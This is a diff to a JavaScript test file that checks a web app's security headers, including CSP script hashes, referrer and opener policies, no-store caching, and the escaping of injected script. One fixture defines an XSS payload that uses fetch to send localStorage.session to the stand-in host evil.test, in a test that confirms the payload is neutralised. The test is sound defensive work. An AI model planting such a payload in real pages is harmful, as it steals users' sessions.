@@ -160,6 +160,10 @@ it('lists every script of the page in its CSP', async () => {
   expect(hashes.length).toBeGreaterThan(4);
   for (const hash of hashes) expect(headers['content-security-policy']).toContain(hash);
   expect(html).not.toContain('nonce');
+  expect(headers).toMatchObject({
+    'referrer-policy': 'strict-origin-when-cross-origin',
+    'cross-origin-opener-policy': 'same-origin-allow-popups',
+  });
 });
 
 it('sends the page of a shared report with no-store', async () => {
@@ -180,13 +184,14 @@ it('sends the page of a shared report with no-store', async () => {
   expect(response.headers['cache-control']).toBe('no-store');
 });
 
-it('does not allow a script that reaches the page through a text', async () => {
+it('a script that reaches the page through a text is plain text, and has no hash in the CSP', async () => {
   const stolen = 'fetch("//evil.test/"+localStorage.session)';
   const { headers, body } = await article(`<p>Words</p><script>${stolen}</script>`);
   const html = (await body.plain()).toString();
-  expect(html).toContain(`<script>${stolen}</script>`);
+  expect(html).toContain(`&lt;script>${stolen}`);
+  expect(html).not.toContain(`<script>${stolen}`);
   const [hash = ''] = scriptHashes([stolen]);
   expect(headers['content-security-policy']).not.toContain(hash);
-  const own = inlineScripts(html).filter((code) => code !== stolen);
-  for (const known of scriptHashes(own)) expect(headers['content-security-policy']).toContain(known);
+  for (const known of scriptHashes(inlineScripts(html)))
+    expect(headers['content-security-policy']).toContain(known);
 });
